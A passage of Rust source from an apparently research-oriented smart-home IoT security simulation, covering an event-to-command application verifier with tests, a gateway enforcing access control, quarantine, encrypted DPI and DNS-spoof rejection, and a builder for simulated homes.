        self.learning = false;
    }

    /// Records a device event the gateway itself witnessed.
    pub fn witness_event(&mut self, event: WitnessedEvent) {
        self.witnessed.push_back(event);
        while self.witnessed.len() > 4096 {
            self.witnessed.pop_front();
        }
    }

    fn recent_trigger(&self, rule: &CausalRule, now: SimTime) -> bool {
        self.witnessed.iter().rev().any(|e| {
            e.device == rule.trigger_device
                && e.attribute == rule.trigger_attribute
                && now.since(e.at) <= self.causality_window
        })
    }

    /// Checks a command heading for `target_device`. In learning mode any
    /// command preceded by a witnessed event becomes a rule. In
    /// enforcement mode, returns `true` when the command is explained.
    pub fn check_command(&mut self, target_device: &str, command: &str, now: SimTime) -> bool {
        if self.learning {
            // Associate the command with the most recent witnessed event.
            if let Some(e) = self
                .witnessed
                .iter()
                .rev()
                .find(|e| now.since(e.at) <= self.causality_window)
            {
                let rule = CausalRule {
                    trigger_device: e.device.clone(),
                    trigger_attribute: e.attribute.clone(),
                    target_device: target_device.to_string(),
                    command: command.to_string(),
                };
                if !self.rules.contains(&rule) {
                    self.rules.push(rule);
                }
            }
            return true;
        }
        let explained = self
            .rules
            .iter()
            .filter(|r| r.target_device == target_device && r.command == command)
            .any(|r| self.recent_trigger(r, now));
        if explained {
            self.stats.0 += 1;
        } else {
            self.stats.1 += 1;
            if let Some(bus) = &self.bus {
                bus.report(Evidence::new(
                    now,
                    Layer::Service,
                    target_device,
                    EvidenceKind::ActionDenied,
                    0.8,
                    &format!("command '{command}' to {target_device} has no witnessed trigger"),
                ));
            }
        }
        explained
    }

    /// Learned rules (inspection).
    pub fn rules(&self) -> &[CausalRule] {
        &self.rules
    }
}

impl Default for AppVerifier {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;

    fn event(device: &str, attribute: &str, value: &str, at_s: u64) -> WitnessedEvent {
        WitnessedEvent {
            device: device.to_string(),
            attribute: attribute.to_string(),
            value: value.to_string(),
            at: SimTime::from_secs(at_s),
        }
    }

    /// Teaches the verifier the benign pattern: thermostat temperature
    /// events explain window commands.
    fn trained() -> AppVerifier {
        let mut v = AppVerifier::new();
        for i in 0..5 {
            v.witness_event(event("thermostat", "temperature", "85", i * 100));
            v.check_command("window", "on", SimTime::from_secs(i * 100 + 5));
        }
        v.finish_learning();
        v
    }

    #[test]
    fn learning_builds_causal_rules() {
        let v = trained();
        assert_eq!(v.rules().len(), 1);
        assert_eq!(v.rules()[0].trigger_device, "thermostat");
        assert_eq!(v.rules()[0].target_device, "window");
    }

    #[test]
    fn commands_with_recent_triggers_are_explained() {
        let mut v = trained();
        v.witness_event(event("thermostat", "temperature", "88", 1000));
        assert!(v.check_command("window", "on", SimTime::from_secs(1010)));
        assert_eq!(v.stats, (1, 0));
    }

    #[test]
    fn commands_without_triggers_are_flagged() {
        // The spoofed-event / compromised-cloud case: a window command
        // arrives although the gateway never saw a hot thermostat.
        let (bus, drain) = EvidenceBus::new();
        let mut v = trained().with_bus(bus);
        assert!(!v.check_command("window", "on", SimTime::from_secs(5000)));
        assert_eq!(v.stats, (0, 1));
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        assert_eq!(store.all()[0].kind, EvidenceKind::ActionDenied);
    }

    #[test]
    fn stale_triggers_do_not_explain() {
        let mut v = trained();
        v.witness_event(event("thermostat", "temperature", "88", 1000));
        // 31 s later the trigger is outside the window.
        assert!(!v.check_command("window", "on", SimTime::from_secs(1031)));
    }

    #[test]
    fn unknown_commands_are_never_explained() {
        let mut v = trained();
        v.witness_event(event("thermostat", "temperature", "88", 1000));
        assert!(!v.check_command("front-door", "unlock", SimTime::from_secs(1001)));
    }

    #[test]
    fn witness_buffer_is_bounded() {
        let mut v = AppVerifier::new();
        for i in 0..5000 {
            v.witness_event(event("d", "a", "v", i));
        }
        assert!(v.witnessed.len() <= 4096);
    }
}
