//! The assembled framework: [`XlfCore`] (aggregation + correlation +
//! policy), the [`XlfGateway`] smart-gateway node that hosts the network-
//! and device-layer mechanisms ("it could realize its full potential when
//! deployed in the network layer by extending the existing smart IoT
//! gateway", §IV-D), and the [`XlfHome`] builder that wires a complete
//! simulated home with per-mechanism switches for ablation studies.

use crate::alerts::{Alert, AlertSink, Severity};
use crate::appverify::{AppVerifier, WitnessedEvent};
use crate::auth::{DelegationProxy, LatencyModel};
use crate::bus::{EvidenceBus, EvidenceDrain};
use crate::correlation::{CorrelationConfig, CorrelationEngine, Verdict};
use crate::dataanalytics::DataAnalytics;
use crate::dpi::{default_rules, EncryptedDpi};
use crate::evidence::EvidenceStore;
use crate::nac::{AccessDecision, Nac};
use crate::netmonitor::NetMonitor;
use crate::policy::{PolicyConfig, PolicyEngine, ResponseAction};
use crate::shaping::{ShapingMode, TrafficShaper};
use crate::updatevet::UpdateVetter;
use std::cell::RefCell;
use std::collections::BTreeMap;
use std::rc::Rc;
use xlf_cloud::{CloudNode, DeviceHandler, EventPolicy, SmartCloud};
use xlf_device::{DeviceConfig, SensorKind, SimDevice, VulnSet};
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::searchable::Tokenizer;
use xlf_protocols::dns::{DnsRecord, RecordType};
use xlf_simnet::{Context, Duration, Medium, Network, Node, NodeId, Packet, SimTime, TimerId};

/// The vendor hub name every registered device is allowed to resolve
/// (the destination a DNS-poisoning attacker tries to hijack).
pub const VENDOR_DNS_NAME: &str = "hub.vendor.example";

/// Per-mechanism switches and tuning for one XLF deployment.
#[derive(Debug, Clone)]
pub struct XlfConfig {
    /// Network access control + quarantine enforcement.
    pub nac: bool,
    /// Traffic shaping mode for upstream flows.
    pub shaping: ShapingMode,
    /// Encrypted DPI on payloads crossing the gateway.
    pub dpi: bool,
    /// Rate/DFA network monitoring.
    pub netmonitor: bool,
    /// Application verification of downstream commands.
    pub appverify: bool,
    /// Telemetry analytics.
    pub dataanalytics: bool,
    /// OTA vetting at the gateway.
    pub update_vetting: bool,
    /// How long monitors learn before enforcing.
    pub learning_period: Duration,
    /// Correlation tuning (including single-layer ablations).
    pub correlation: CorrelationConfig,
    /// Response thresholds.
    pub policy: PolicyConfig,
    /// How often the Core evaluates.
    pub evaluation_interval: Duration,
    /// Evidence-bus queue capacity. `None` = unbounded (the single-home
    /// default); `Some(cap)` bounds the queue with a shed-oldest policy
    /// (see [`EvidenceBus::bounded`]) — fleet workers multiplexing many
    /// homes use this so one chatty home cannot OOM its shard.
    pub evidence_capacity: Option<usize>,
    /// Delay between a policy decision and its enforcement at the
    /// gateway. Zero when the Core runs *on* the gateway (the paper's
    /// edge deployment); a WAN round trip plus processing when the Core
    /// is hosted in the cloud (§IV-D discusses both placements).
    pub response_delay: Duration,
}

impl XlfConfig {
    /// Everything on — the full cross-layer deployment.
    pub fn full() -> Self {
        XlfConfig {
            nac: true,
            shaping: ShapingMode::Off,
            dpi: true,
            netmonitor: true,
            appverify: true,
            dataanalytics: true,
            update_vetting: true,
            learning_period: Duration::from_secs(120),
            correlation: CorrelationConfig::default(),
            policy: PolicyConfig::default(),
            evaluation_interval: Duration::from_secs(5),
            evidence_capacity: None,
            response_delay: Duration::ZERO,
        }
    }

    /// Everything off — the undefended baseline (gateway degenerates to a
    /// plain forwarding hub).
    pub fn off() -> Self {
        XlfConfig {
            nac: false,
            shaping: ShapingMode::Off,
            dpi: false,
            netmonitor: false,
            appverify: false,
            dataanalytics: false,
            update_vetting: false,
            learning_period: Duration::from_secs(120),
            correlation: CorrelationConfig::default(),
            policy: PolicyConfig {
                warn_threshold: 2.0, // unreachable
                act_threshold: 2.0,
            },
            evaluation_interval: Duration::from_secs(5),
            evidence_capacity: None,
            response_delay: Duration::ZERO,
        }
    }

    /// Bounds the evidence bus (builder-style); see
    /// [`XlfConfig::evidence_capacity`].
    pub fn with_evidence_capacity(mut self, capacity: Option<usize>) -> Self {
        self.evidence_capacity = capacity;
        self
    }
}

/// The XLF Core: evidence aggregation, correlation, alerting, policy.
pub struct XlfCore {
    /// The aggregated evidence store.
    pub store: EvidenceStore,
    drain: EvidenceDrain,
    /// Cloneable handle mechanisms report through.
    pub bus: EvidenceBus,
    /// Fusion engine.
    pub correlation: CorrelationEngine,
    /// Alert pipeline.
    pub alerts: AlertSink,
    /// Response policy.
    pub policy: PolicyEngine,
}

impl std::fmt::Debug for XlfCore {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("XlfCore")
            .field("evidence", &self.store.len())
            .field("alerts", &self.alerts.alerts().len())
            .finish_non_exhaustive()
    }
}

impl XlfCore {
    /// Creates a Core with the given tuning and an unbounded evidence
    /// bus.
    pub fn new(correlation: CorrelationConfig, policy: PolicyConfig) -> Self {
        Self::with_evidence_capacity(correlation, policy, None)
    }

    /// Creates a Core whose evidence bus is bounded to `capacity` queued
    /// observations (`None` = unbounded). On overload the bus sheds its
    /// oldest queued observation per excess report; sheds are visible
    /// through [`EvidenceBus::shed`] on [`XlfCore::bus`].
    pub fn with_evidence_capacity(
        correlation: CorrelationConfig,
        policy: PolicyConfig,
        capacity: Option<usize>,
    ) -> Self {
        let (bus, drain) = match capacity {
            Some(cap) => EvidenceBus::bounded(cap),
            None => EvidenceBus::new(),
        };
        XlfCore {
            store: EvidenceStore::new(),
            drain,
            bus,
            correlation: CorrelationEngine::new(correlation),
            alerts: AlertSink::new(),
            policy: PolicyEngine::new(policy),
        }
    }

    /// Drains pending evidence, fuses verdicts, raises alerts, and
    /// returns the response actions policy mandates.
    pub fn evaluate(&mut self, now: SimTime) -> Vec<ResponseAction> {
        self.drain.drain_into(&mut self.store);
        let mut all_actions = Vec::new();
        for verdict in self.correlation.evaluate_all(&self.store, now) {
            let (severity, actions) = self.policy.respond(&verdict, now);
            if severity > Severity::Info {
                self.alerts.raise(Alert {
                    at: now,
                    device: verdict.device.clone(),
                    severity,
                    score: verdict.score,
                    explanation: format!("layers {:?}, kinds {:?}", verdict.layers, verdict.kinds),
                });
            }
            all_actions.extend(actions);
        }
        all_actions
    }

    /// Moves at most `max` pending bus observations into the store
    /// without evaluating; returns how many moved. A fleet worker
    /// multiplexing many homes calls this between simulation slices so
    /// one chatty home cannot stall its whole shard (the remainder stays
    /// queued for the next slice or the next [`XlfCore::evaluate`]).
    pub fn drain_pending(&mut self, max: usize) -> usize {
        self.drain.drain_up_to(&mut self.store, max)
    }

    /// Observations queued on the bus but not yet drained.
    pub fn pending_evidence(&self) -> usize {
        self.drain.pending()
    }

    /// Fuses a verdict for one device right now (used by experiments).
    pub fn verdict_for(&mut self, device: &str, now: SimTime) -> Verdict {
        self.drain.drain_into(&mut self.store);
        self.correlation.evaluate_device(&self.store, device, now)
    }
}

/// A shared handle to the Core (the gateway, experiments, and harnesses
/// all hold one).
pub type CoreHandle = Rc<RefCell<XlfCore>>;

const TIMER_EVALUATE: u64 = 101;
const TIMER_FINISH_LEARNING: u64 = 102;
const TIMER_APPLY_RESPONSES: u64 = 103;
const TIMER_COVER_TRAFFIC: u64 = 104;

/// Token lifetime while the Core sees active suspicion (§IV-A1: "the XLF
/// Core determines the lifetime of the authentication tokens based on
/// the correlation results").
const SUSPICIOUS_TOKEN_LIFETIME: Duration = Duration::from_secs(300);
/// Token lifetime during calm periods.
const CALM_TOKEN_LIFETIME: Duration = Duration::from_secs(3600);

/// The XLF smart gateway: a forwarding hub with the device- and
/// network-layer security functions bolted on, reporting to the Core.
pub struct XlfGateway {
    core: CoreHandle,
    config: XlfConfig,
    cloud: NodeId,
    devices: BTreeMap<String, NodeId>,
    /// Network-access control + quarantine.
    pub nac: Nac,
    shaper: TrafficShaper,
    monitor: NetMonitor,
    verifier: AppVerifier,
    analytics: DataAnalytics,
    vetter: UpdateVetter,
    /// Per-device DPI middleboxes (bound to per-device session secrets).
    dpi: BTreeMap<String, (EncryptedDpi, Tokenizer)>,
    /// The §IV-A1 authentication delegation proxy; its token lifetime is
    /// steered by the Core's correlation results.
    pub auth_proxy: DelegationProxy,
    /// Last upstream activity (real or cover) per device, for
    /// constant-rate cover-traffic injection.
    last_upstream: BTreeMap<String, SimTime>,
    bus: EvidenceBus,
    /// Quarantines decided but not yet enforced (cloud-hosted Core).
    pending_quarantines: Vec<String>,
    master_secret: Vec<u8>,
    /// Packets dropped by quarantine / NAC / vetting / verification.
    pub dropped: u64,
    /// Packets forwarded.
    pub forwarded: u64,
}

impl std::fmt::Debug for XlfGateway {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("XlfGateway")
            .field("devices", &self.devices.len())
            .field("dropped", &self.dropped)
            .field("forwarded", &self.forwarded)
            .finish_non_exhaustive()
    }
}

impl XlfGateway {
    /// Creates a gateway bridging `cloud`, wired to `core`.
    pub fn new(core: CoreHandle, config: XlfConfig, cloud: NodeId, master_secret: &[u8]) -> Self {
        let bus = core.borrow().bus.clone();
        let mut vetter = UpdateVetter::new(&crate::dpi::xlf_attacks_signatures().to_vec());
        vetter.trust_vendor("acme", b"acme vendor secret");
        let shaper = TrafficShaper::new(config.shaping, 0x5107);
        XlfGateway {
            core,
            cloud,
            devices: BTreeMap::new(),
            nac: Nac::new().with_bus(bus.clone()),
            shaper,
            monitor: NetMonitor::new().with_bus(bus.clone()),
            verifier: AppVerifier::new().with_bus(bus.clone()),
            analytics: DataAnalytics::new().with_bus(bus.clone()),
            vetter: vetter.with_bus(bus.clone()),
            dpi: BTreeMap::new(),
            auth_proxy: DelegationProxy::new(LatencyModel::default()),
            last_upstream: BTreeMap::new(),
            bus,
            pending_quarantines: Vec::new(),
            master_secret: master_secret.to_vec(),
            config,
            dropped: 0,
            forwarded: 0,
        }
    }

    /// Registers a device behind the gateway, allowlisting its cloud path
    /// and its vendor hub name (the only destination NAC lets it resolve).
    pub fn register_device(&mut self, name: &str, node: NodeId) {
        self.devices.insert(name.to_string(), node);
        self.nac.allow_node(name, self.cloud);
        self.nac.allow_destination(name, VENDOR_DNS_NAME);
    }

    /// Shaping cost so far (the E-M3 overhead axis).
    pub fn shaping_cost(&self) -> crate::shaping::ShapingCost {
        self.shaper.cost
    }

    /// Application-verification counters `(explained, unexplained)`.
    pub fn appverify_stats(&self) -> (u64, u64) {
        self.verifier.stats
    }

    fn dpi_for(&mut self, device: &str) -> &mut (EncryptedDpi, Tokenizer) {
        if !self.dpi.contains_key(device) {
            let secret = derive_key(&self.master_secret, &format!("dpi/{device}"), 16)
                .expect("valid kdf params");
            let mut middlebox =
                EncryptedDpi::new(default_rules()).with_bus(self.core.borrow().bus.clone());
            middlebox
                .bind_session(&secret)
                .expect("non-empty session secret");
            let tokenizer = Tokenizer::new(&secret).expect("non-empty session secret");
            self.dpi.insert(device.to_string(), (middlebox, tokenizer));
        }
        self.dpi.get_mut(device).expect("just inserted")
    }

    fn scan_payload(&mut self, device: &str, payload: &[u8], now: SimTime) -> bool {
        if !self.config.dpi || payload.is_empty() {
            return false;
        }
        let (middlebox, tokenizer) = self.dpi_for(device);
        let tokens = tokenizer.tokenize(payload);
        !middlebox.inspect(device, &tokens, now).is_empty()
    }

    /// Batched DPI entry point: tokenizes and inspects a burst of payloads
    /// from one device in a single middlebox pass (session bound once,
    /// match scratch reused across payloads). Returns, per payload,
    /// whether any rule matched — exactly what [`scan_payload`] would
    /// have answered for each, with identical evidence and counters.
    /// Empty payloads are skipped, as in the per-packet path.
    ///
    /// [`scan_payload`]: XlfGateway::scan_payload
    pub fn inspect_batch(&mut self, device: &str, payloads: &[&[u8]], now: SimTime) -> Vec<bool> {
        if !self.config.dpi || payloads.is_empty() {
            return vec![false; payloads.len()];
        }
        let (middlebox, tokenizer) = self.dpi_for(device);
        let scanned: Vec<usize> = payloads
            .iter()
            .enumerate()
            .filter(|(_, p)| !p.is_empty())
            .map(|(i, _)| i)
            .collect();
        let streams: Vec<Vec<xlf_lwcrypto::searchable::Token>> = scanned
            .iter()
            .map(|&i| tokenizer.tokenize(payloads[i]))
            .collect();
        let matches = middlebox.inspect_batch(device, &streams, now);
        let mut out = vec![false; payloads.len()];
        for (&i, m) in scanned.iter().zip(&matches) {
            out[i] = !m.is_empty();
        }
        out
    }

    fn device_name_of(&self, node: NodeId) -> Option<String> {
        self.devices
            .iter()
            .find(|(_, &id)| id == node)
            .map(|(name, _)| name.clone())
    }

    fn handle_upstream(&mut self, ctx: &mut Context<'_>, packet: Packet, device: String) {
        let now = ctx.now();
        if self.config.nac && self.nac.is_quarantined(&device) {
            self.dropped += 1;
            return;
        }
        if self.config.netmonitor {
            self.monitor.observe_packet(&device, now);
        }
        self.last_upstream.insert(device.clone(), now);
        // Scan application payloads crossing the gateway.
        self.scan_payload(&device, &packet.payload, now);

        // WAN-bound source routing (the DDoS path) goes through NAC.
        if let Some(final_dst) = packet.meta("final_dst").and_then(|d| d.parse::<u32>().ok()) {
            let target = NodeId::from_raw(final_dst);
            if self.config.nac && self.nac.check_node(&device, target, now) != AccessDecision::Allow
            {
                self.dropped += 1;
                return;
            }
            let mut fwd = packet.clone();
            fwd.meta.remove("final_dst");
            self.forwarded += 1;
            ctx.send(target, fwd);
            return;
        }

        match packet.kind.as_str() {
            "telemetry" => {
                if let Some((attribute, value)) = parse_reading(&packet.payload) {
                    if self.config.appverify {
                        self.verifier.witness_event(WitnessedEvent {
                            device: device.clone(),
                            attribute: attribute.clone(),
                            value: value.clone(),
                            at: now,
                        });
                    }
                    // Seasonal baselines suit smooth physical signals;
                    // event-like attributes (motion, camera activity) are
                    // bimodal by nature and are profiled by the DFA/rate
                    // monitors instead.
                    let seasonal = matches!(attribute.as_str(), "temperature" | "power" | "smoke");
                    if self.config.dataanalytics && seasonal {
                        if let Ok(v) = value.parse::<f64>() {
                            self.analytics.observe(&device, &attribute, v, now);
                        }
                    }
                }
            }
            "event" => {
                if let (Some(from), Some(to)) = (packet.meta("from"), packet.meta("to")) {
                    // The device-layer malware-detection function (§IV-A4):
                    // a device attesting a compromised state is first-class
                    // device-layer evidence.
                    if to == "compromised" {
                        self.bus.report(crate::evidence::Evidence::new(
                            now,
                            crate::evidence::Layer::Device,
                            &device,
                            crate::evidence::EvidenceKind::DfaViolation,
                            1.0,
                            "device reported transition into a compromised state",
                        ));
                    }
                    if self.config.netmonitor {
                        self.monitor
                            .observe_transition(&device, from, "cmd", to, now);
                    }
                    if self.config.appverify {
                        self.verifier.witness_event(WitnessedEvent {
                            device: device.clone(),
                            attribute: "state".to_string(),
                            value: to.to_string(),
                            at: now,
                        });
                    }
                }
            }
            _ => {}
        }

        // Forward upstream with shaping.
        let mut fwd = packet;
        let decision = self.shaper.shape(fwd.wire_size);
        fwd.pad_to(decision.padded_size);
        self.forwarded += 1;
        ctx.send_after(self.cloud, fwd, decision.delay);
    }

    fn handle_downstream(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        let now = ctx.now();
        let Some(device) = packet.meta("device").map(str::to_string) else {
            return;
        };
        let Some(&node) = self.devices.get(&device) else {
            return;
        };
        if self.config.nac && self.nac.is_quarantined(&device) && packet.kind != "ota" {
            self.dropped += 1;
            return;
        }
        match packet.kind.as_str() {
            "cmd" => {
                let action = packet
                    .meta("command")
                    .or_else(|| packet.meta("action"))
                    .unwrap_or("")
                    .to_string();
                self.scan_payload(&device, &packet.payload, now);
                if self.config.appverify && !self.verifier.check_command(&device, &action, now) {
                    self.dropped += 1;
                    return;
                }
                self.forwarded += 1;
                ctx.send(node, packet);
            }
            "ota" => {
                if self.config.update_vetting {
                    if self.vetter.vet(&device, &packet.payload, now).is_err() {
                        self.dropped += 1;
                        return;
                    }
                } else {
                    self.scan_payload(&device, &packet.payload, now);
                }
                self.forwarded += 1;
                ctx.send(node, packet);
            }
            "login" | "probe" => {
                self.scan_payload(&device, &packet.payload, now);
                self.forwarded += 1;
                ctx.send(node, packet);
            }
            "dns-response" => {
                // A WAN-side DNS answer claiming to resolve a name for a
                // device. NAC's hardened resolver adjudicates it (txid +
                // DNSSEC checks); rejected spoofs are dropped and show up
                // as `DnsBlocked` evidence. Without NAC the gateway
                // blindly forwards — the unprotected baseline.
                if !self.config.nac {
                    self.forwarded += 1;
                    ctx.send(node, packet);
                    return;
                }
                let name = packet.meta("name").unwrap_or(VENDOR_DNS_NAME).to_string();
                let value = packet.meta("value").unwrap_or("").to_string();
                let txid = packet
                    .meta("txid")
                    .and_then(|t| t.parse::<u16>().ok())
                    .unwrap_or(0);
                let record = DnsRecord::new(&name, RecordType::A, &value, 300);
                match self.nac.resolve_for(&device, &name, (record, txid), now) {
                    Ok(_) => {
                        self.forwarded += 1;
                        ctx.send(node, packet);
                    }
                    Err(_) => {
                        self.dropped += 1;
                    }
                }
            }
            _ => {
                self.forwarded += 1;
                ctx.send(node, packet);
            }
        }
    }
}

fn parse_reading(payload: &[u8]) -> Option<(String, String)> {
    let text = String::from_utf8_lossy(payload);
    let trimmed = text.trim_end();
    let (kind, value) = trimmed.split_once('=')?;
    let attribute = match kind {
        "Temperature" => "temperature",
        "Motion" => "motion",
        "Power" => "power",
        "Camera" => "stream",
        "Smoke" => "smoke",
        other => return Some((other.to_ascii_lowercase(), value.to_string())),
    };
    Some((attribute.to_string(), value.to_string()))
}

impl Node for XlfGateway {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        ctx.set_timer(self.config.evaluation_interval, TIMER_EVALUATE);
        ctx.set_timer(self.config.learning_period, TIMER_FINISH_LEARNING);
        if let ShapingMode::ConstantRate { cover_interval, .. } = self.config.shaping {
            ctx.set_timer(cover_interval, TIMER_COVER_TRAFFIC);
        }
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
        match tag {
            TIMER_EVALUATE => {
                let actions = self.core.borrow_mut().evaluate(ctx.now());
                let actions_present = !actions.is_empty();
                let mut decided = Vec::new();
                for action in actions {
                    match action {
                        ResponseAction::Quarantine { device } => decided.push(device),
                        ResponseAction::RevokeTokens { .. }
                        | ResponseAction::ForceFirmwareRollback { .. }
                        | ResponseAction::NotifyUser { .. } => {
                            // Delivered to the cloud/user out of band; the
                            // alert sink records the notification.
                        }
                    }
                }
                // §IV-A1: correlation results steer auth-token lifetimes —
                // any active response shortens them, calm restores them.
                if actions_present {
                    self.auth_proxy
                        .set_token_lifetime(SUSPICIOUS_TOKEN_LIFETIME);
                } else {
                    self.auth_proxy.set_token_lifetime(CALM_TOKEN_LIFETIME);
                }
                if self.config.nac && !decided.is_empty() {
                    if self.config.response_delay == Duration::ZERO {
                        for device in decided {
                            self.nac.quarantine(&device);
                        }
                    } else {
                        // Cloud-hosted Core: the decision travels back to
                        // the gateway over the WAN before it can bite.
                        self.pending_quarantines.extend(decided);
                        ctx.set_timer(self.config.response_delay, TIMER_APPLY_RESPONSES);
                    }
                }
                ctx.set_timer(self.config.evaluation_interval, TIMER_EVALUATE);
            }
            TIMER_APPLY_RESPONSES => {
                for device in std::mem::take(&mut self.pending_quarantines) {
                    self.nac.quarantine(&device);
                }
            }
            TIMER_COVER_TRAFFIC => {
                let ShapingMode::ConstantRate { cover_interval, .. } = self.config.shaping else {
                    return;
                };
                let now = ctx.now();
                let devices: Vec<String> = self.devices.keys().cloned().collect();
                for device in devices {
                    if self.config.nac && self.nac.is_quarantined(&device) {
                        continue;
                    }
                    let last = self
                        .last_upstream
                        .get(&device)
                        .copied()
                        .unwrap_or(SimTime::ZERO);
                    let covers = self.shaper.cover_packets_for(now.since(last));
                    if !covers.is_empty() {
                        self.last_upstream.insert(device.clone(), now);
                    }
                    for size in covers {
                        let mut pkt = Packet::new(ctx.id(), self.cloud, "cover", Vec::new())
                            .with_protocol(xlf_simnet::Protocol::Tls)
                            .with_meta("device", &device)
                            .with_meta("state", "cover");
                        pkt.pad_to(size);
                        self.forwarded += 1;
                        ctx.send(self.cloud, pkt);
                    }
                }
                ctx.set_timer(cover_interval, TIMER_COVER_TRAFFIC);
            }
            TIMER_FINISH_LEARNING => {
                self.monitor.finish_learning();
                self.verifier.finish_learning();
            }
            _ => {}
        }
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        // Upstream = the packet came from a registered device node.
        if let Some(device) = self.device_name_of(packet.src) {
            self.handle_upstream(ctx, packet, device);
        } else {
            self.handle_downstream(ctx, packet);
        }
    }
}

/// Descriptor of one device in a built home.
#[derive(Debug, Clone)]
pub struct HomeDevice {
    /// Device name.
    pub name: String,
    /// Sensor modality.
    pub sensor: SensorKind,
    /// Vulnerability profile.
    pub vulns: VulnSet,
    /// Telemetry period.
    pub telemetry_period: Duration,
    /// Cloud capabilities registered for it.
    pub capabilities: Vec<xlf_cloud::Capability>,
}

impl HomeDevice {
    /// A hardened device with sane defaults.
    pub fn new(name: &str, sensor: SensorKind) -> Self {
        let capability = match sensor {
            SensorKind::Temperature => xlf_cloud::Capability::TemperatureMeasurement,
            SensorKind::Motion => xlf_cloud::Capability::MotionSensor,
            SensorKind::Smoke => xlf_cloud::Capability::SmokeDetector,
            SensorKind::Power => xlf_cloud::Capability::EnergyMeter,
            SensorKind::Camera => xlf_cloud::Capability::VideoStream,
        };
        HomeDevice {
            name: name.to_string(),
            sensor,
            vulns: VulnSet::hardened(),
            telemetry_period: Duration::from_secs(30),
            capabilities: vec![capability, xlf_cloud::Capability::Switch],
        }
    }

    /// Replaces the vulnerability profile (builder-style).
    pub fn with_vulns(mut self, vulns: VulnSet) -> Self {
        self.vulns = vulns;
        self
    }

    /// Overrides the telemetry period (builder-style).
    pub fn with_telemetry_period(mut self, period: Duration) -> Self {
        self.telemetry_period = period;
        self
    }
}

/// A fully wired simulated home with XLF deployed.
pub struct XlfHome {
    /// The simulation.
    pub net: Network,
    /// Shared Core handle.
    pub core: CoreHandle,
    /// Cloud node id.
    pub cloud: NodeId,
    /// Gateway node id.
    pub gateway: NodeId,
    /// Device name → node id.
    pub devices: BTreeMap<String, NodeId>,
}

impl std::fmt::Debug for XlfHome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("XlfHome")
            .field("devices", &self.devices.len())
            .finish_non_exhaustive()
    }
}

impl XlfHome {
    /// Builds a home: cloud (id 0), gateway (id 1), then one node per
    /// device, all linked (devices over ZigBee/WiFi by modality, gateway
    /// to cloud over WAN).
    pub fn build(seed: u64, config: XlfConfig, home_devices: &[HomeDevice]) -> XlfHome {
        let mut net = Network::new(seed);
        let core: CoreHandle = Rc::new(RefCell::new(XlfCore::with_evidence_capacity(
            config.correlation.clone(),
            config.policy.clone(),
            config.evidence_capacity,
        )));

        let cloud_id = NodeId::from_raw(0);
        let gateway_id = NodeId::from_raw(1);

        // The cloud is deliberately built with the *flawed* 2016-era
        // posture the paper analyzes (permissive events and permissions):
        // XLF's thesis is that the cross-layer framework protects the home
        // even when the service layer itself is gullible.
        let mut cloud = SmartCloud::new(
            EventPolicy::permissive(),
            xlf_cloud::smartapp::PermissionModel::Permissive,
            b"hub secret",
        );
        for d in home_devices {
            cloud.register_device(DeviceHandler::new(&d.name, &d.capabilities));
        }
        let actual_cloud = net.add_node(Box::new(CloudNode::new(cloud, gateway_id)));
        assert_eq!(actual_cloud, cloud_id);

        let mut gateway = XlfGateway::new(core.clone(), config, cloud_id, b"home master secret");
        let first_device_raw = 2u32;
        for (i, d) in home_devices.iter().enumerate() {
            gateway.register_device(&d.name, NodeId::from_raw(first_device_raw + i as u32));
        }
        let actual_gateway = net.add_node(Box::new(gateway));
        assert_eq!(actual_gateway, gateway_id);

        let mut devices = BTreeMap::new();
        for d in home_devices {
            let cfg = DeviceConfig::new(&d.name, d.sensor, gateway_id)
                .with_vulns(d.vulns.clone())
                .with_telemetry_period(d.telemetry_period);
            let id = net.add_node(Box::new(SimDevice::new(cfg)));
            let medium = match d.sensor {
                SensorKind::Camera => Medium::Wifi,
                _ => Medium::Zigbee,
            };
            net.connect(gateway_id, id, medium.link().with_loss(0.0));
            devices.insert(d.name.clone(), id);
        }
        net.connect(gateway_id, cloud_id, Medium::Wan.link().with_loss(0.0));

        XlfHome {
            net,
            core,
            cloud: cloud_id,
            gateway: gateway_id,
            devices,
        }
    }

    /// Convenience: the gateway node, downcast.
    pub fn gateway_ref(&self) -> &XlfGateway {
        self.net
            .node_as::<XlfGateway>(self.gateway)
            .expect("gateway node exists")
    }

    /// Convenience: a device node, downcast.
    pub fn device_ref(&self, name: &str) -> &SimDevice {
        let id = self.devices[name];
        self.net.node_as::<SimDevice>(id).expect("device exists")
    }

    /// Wraps this home in a reusable [`HomeRunner`] (installs the traffic
    /// tap the behaviour features come from).
    pub fn into_runner(self) -> HomeRunner {
        HomeRunner::new(self)
    }
}

/// Deterministic, thread-portable summary of one finished home run: what
/// a higher aggregation tier (the fleet Core) consumes. Everything here
/// is `Send + Clone` and derived only from the simulation state, so the
/// same seed always yields the same report.
#[derive(Debug, Clone, PartialEq)]
pub struct HomeReport {
    /// The seed the home was built from.
    pub seed: u64,
    /// Evidence records aggregated by this home's Core.
    pub evidence_total: usize,
    /// Observations lost for any reason: drain end gone when they were
    /// reported, plus observations shed under overload (always `>=`
    /// [`HomeReport::evidence_shed`]).
    pub evidence_dropped: u64,
    /// Observations shed (evicted oldest-first) by a bounded evidence
    /// bus under overload — the overload subset of
    /// [`HomeReport::evidence_dropped`]. 0 on an unbounded bus.
    pub evidence_shed: u64,
    /// Evidence counts per layer: `[device, network, service]`.
    pub evidence_by_layer: [usize; 3],
    /// Warning-or-higher alerts raised.
    pub warning_alerts: usize,
    /// Critical alerts raised.
    pub critical_alerts: usize,
    /// Devices quarantined by NAC at the end of the run.
    pub quarantined: Vec<String>,
    /// The most suspicious device and its fused verdict score.
    pub top_device: String,
    /// Fused suspicion score of `top_device` in `[0, 1]`.
    pub top_score: f64,
    /// Packets the gateway forwarded.
    pub forwarded: u64,
